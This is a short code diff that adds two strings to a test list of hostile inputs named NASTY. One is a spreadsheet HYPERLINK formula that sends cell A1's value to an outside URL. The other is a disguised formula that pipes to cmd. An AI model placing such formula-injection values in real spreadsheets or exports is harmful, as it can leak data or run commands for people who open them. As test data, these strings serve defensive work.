@@ -42,6 +42,8 @@ NASTY = (
     "line one\nline two\\n",
     "right \u202eto left\u202c \u200f mark",
     "a & b &amp; c </title></textarea>",
+    '=HYPERLINK("http://example.org/"&A1,"name")',
+    "＠SUM(1)\t|cmd",
 )
 
 
